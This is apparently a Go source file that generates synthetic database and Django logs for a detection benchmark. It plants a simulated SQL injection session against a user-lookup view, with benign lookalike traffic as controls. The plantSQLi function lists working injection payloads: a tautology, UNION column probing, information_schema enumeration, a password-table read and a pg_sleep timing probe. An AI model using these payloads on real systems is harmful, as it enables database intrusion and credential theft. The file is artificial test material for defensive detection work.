package loggen

import "net/url"

// injection is one request of the vulnerable user-lookup view, which
// concatenates the username into raw SQL (cursor.execute without params).
type injection struct {
	input  string // attacker-controlled username
	crdb   string // CockroachDB's rendering ("" = same as the raw SQL, one span)
	rows   int64
	latMS  float64
	state  string
	errTxt string
}

const lookupPrefix = "SELECT id, username, email FROM auth_user WHERE username = '"
const lookupCRDB = `SELECT id, username, email FROM "".""` + `.auth_user WHERE `

// plantSQLi: injection through the web principal: a tautology, a burst of
// 42601/42703/42P01 errors while probing UNION column counts, a UNION
// read, information_schema probing and a pg_sleep probe (RW-SQLI-001).
func plantSQLi(p *planter) {
	g, r := p.g, p.r
	srv := g.dj[r.intn(2)]
	s := g.connect(p.at, sessionOpts{pr: prWeb, ip: srv.ip, dj: srv}, r)
	p.session(s)
	attacker := pick(r, []string{"203.0.113.", "198.51.100."}) + itoa(int64(r.between(2, 250)))
	steps := []injection{
		{input: "' OR 1=1 --", crdb: lookupCRDB + "(username = ‹''›) OR (‹1› = ‹1›)", rows: 240, latMS: 14},
		{input: "'", state: "42601", errTxt: "at or near ‹\"'\"›: syntax error: unterminated string"},
		{input: "' UNION SELECT NULL --", crdb: lookupCRDB + "username = ‹''› UNION SELECT NULL", state: "42601", errTxt: "each UNION query must have the same number of columns: 3 vs 1"},
		{input: "' UNION SELECT NULL, NULL --", crdb: lookupCRDB + "username = ‹''› UNION SELECT NULL, NULL", state: "42601", errTxt: "each UNION query must have the same number of columns: 3 vs 2"},
		{input: "' UNION SELECT passwd, NULL, NULL FROM auth_user --", crdb: lookupCRDB + "username = ‹''› UNION SELECT passwd, NULL, NULL FROM \"\".\"\".auth_user", state: "42703", errTxt: "column ‹\"passwd\"› does not exist"},
		{input: "' UNION SELECT id, username, password FROM users --", crdb: lookupCRDB + "username = ‹''› UNION SELECT id, username, password FROM \"\".\"\".users", state: "42P01", errTxt: "relation ‹\"users\"› does not exist"},
		{input: "' ORDER BY 9 --", crdb: lookupCRDB + "username = ‹''› ORDER BY ‹9›", state: "42P10", errTxt: "ORDER BY position ‹9› is not in select list"},
		{input: "' UNION SELECT NULL, table_name, column_name FROM information_schema.columns WHERE table_schema='public' --",
			crdb: lookupCRDB + "username = ‹''› UNION SELECT NULL, table_name, column_name FROM information_schema.columns WHERE table_schema = ‹'public'›", rows: 184, latMS: 48},
		{input: "' UNION SELECT id, username, password FROM auth_user --", crdb: lookupCRDB + "username = ‹''› UNION SELECT id, username, password FROM \"\".\"\".auth_user", rows: 240, latMS: 16},
		{input: "x' OR pg_sleep(5) IS NULL --", crdb: lookupCRDB + "(username = ‹'x'›) OR (pg_sleep(‹5›) IS NULL)", rows: 0, latMS: 5012},
	}
	for i, in := range steps {
		s.wait(durMS(400 + r.exp(2500)))
		s.comment, s.commentRaw = rtUserLookup.comment, rtUserLookup.commentRaw
		raw := lookupPrefix + in.input + "'"
		crdb := in.crdb
		if crdb == "" {
			crdb = mark(raw) // unparseable: nothing to re-render
		}
		st := rawStmt("SELECT", crdb, raw, "clinic")
		st.rows, st.latMS, st.state, st.errTxt, st.full = in.rows, in.latMS, in.state, in.errTxt, in.rows > 100
		st.force = i == 0
		ts := s.exec(st, r)
		if i == 0 {
			p.decisive(ts)
		}
		path := "/api/users/lookup/"
		if in.state != "" {
			exc := "psycopg2.errors." + map[string]string{"42601": "SyntaxError", "42703": "UndefinedColumn", "42P01": "UndefinedTable", "42P10": "InvalidColumnReference"}[in.state] +
				": " + stripMarkers(in.errTxt)
			s.g.emitDjango(s.dj, &djRec{at: s.t + durMS(2), level: "ERROR", logger: "django.request", module: "log", w: s.worker,
				msg: "Internal Server Error: " + path, exc: traceback("accounts/views.py", "user_lookup", exc),
				extras: []djKV{{"status_code", []byte("500")}, {"request", appendPyJSONString(nil, "<WSGIRequest: GET '"+path+"?username="+url.QueryEscape(in.input)+"'>")}}})
		}
	}
	s.wait(durS(r.exp(10)))
	s.close(r)
	p.describe("SQL injection through the Django user-lookup view (raw SQL concatenation), attacker %s via app server %s: tautology, UNION column probing with a burst of 42601/42703/42P01 errors, information_schema probing, pg_sleep time probe.",
		attacker, s.ip)
}

// stripMarkers removes redaction markers (for Python exception text).
func stripMarkers(s string) string {
	out := make([]rune, 0, len(s))
	for _, c := range s {
		if c != '‹' && c != '›' {
			out = append(out, c)
		}
	}
	return string(out)
}

// plantSQLiLookalikeSearch: product searches whose literals contain
// "union" and "' or '" inside the string (benign).
func plantSQLiLookalikeSearch(p *planter) {
	g, r := p.g, p.r
	srv := g.dj[r.intn(2)]
	s := g.connect(p.at, sessionOpts{pr: prWeb, ip: srv.ip, dj: srv}, r)
	p.session(s)
	for i, q := range []string{"union jack mug", "rock ' or ' roll poster", "select union square print"} {
		s.wait(durMS(r.exp(2000) + 100))
		s.request(rtSearch, r)
		st := searchStmt(q)
		st.rows = int64(r.between(0, 4))
		ts := s.exec(st, r)
		if i == 0 {
			p.decisive(ts)
		}
	}
	s.close(r)
	p.describe("Benign product searches whose string literals contain 'union', \"' or '\" and 'select'; properly bound, not injection.")
}

// plantSQLiLookalikeMigrator: Django migrations reading information_schema.
func plantSQLiLookalikeMigrator(p *planter) {
	g, r := p.g, p.r
	s := g.connect(p.at, sessionOpts{pr: prMigrator}, r)
	p.session(s)
	sts := []*stmt{
		{tag: "SELECT", crdb: `SELECT django_migrations.id, django_migrations.app, django_migrations.name, django_migrations.applied FROM "".""` + `.django_migrations`, rows: 64},
		{tag: "SELECT", crdb: "SELECT c.relname, CASE WHEN c.relispartition THEN ‹'p'› WHEN c.relkind IN (‹'m'›, ‹'v'›) THEN ‹'v'› ELSE ‹'t'› END FROM pg_catalog.pg_class AS c LEFT JOIN pg_catalog.pg_namespace AS n ON n.oid = c.relnamespace WHERE (c.relkind IN (‹'f'›, ‹'m'›, ‹'p'›, ‹'r'›, ‹'v'›)) AND (n.nspname NOT IN (‹'pg_catalog'›, ‹'pg_toast'›))", rows: 12},
		{tag: "SELECT", crdb: "SELECT table_name FROM information_schema.tables WHERE table_schema = ‹'public'›", rows: 12},
		{tag: "SELECT", crdb: "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE (table_schema = ‹'public'›) AND (table_name = ‹'patients'›)", rows: 7},
		{tag: "SELECT", crdb: "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE (table_schema = ‹'public'›) AND (table_name = ‹'customers'›)", rows: 7},
	}
	for i, st := range sts {
		st.db = "clinic"
		s.wait(durMS(r.exp(300) + 5))
		ts := s.exec(st, r)
		if i == 2 {
			p.decisive(ts)
		}
	}
	s.close(r)
	p.describe("Benign `manage.py migrate` run by %s (%s) introspecting information_schema; catalog reads from a migration tool are not probing.", s.user, s.app)
}
